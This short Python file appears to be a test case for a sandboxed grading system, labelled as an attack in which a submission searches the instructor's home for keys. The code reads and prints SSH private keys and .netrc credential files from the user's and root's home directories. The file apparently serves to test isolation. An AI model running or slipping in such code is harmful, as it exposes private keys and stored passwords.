# attack: the instructor's home is searched for keys
# wants: read
# grade: 0
# honest: 0
# %%
import os
from pathlib import Path
for home in {"@HOME@", os.path.expanduser("~"), os.path.expanduser("~root"), "/root"}:
    for path in [*Path(home).glob(".ssh/id_*"), *Path(home).glob(".netrc")]:
        print(path.read_text())
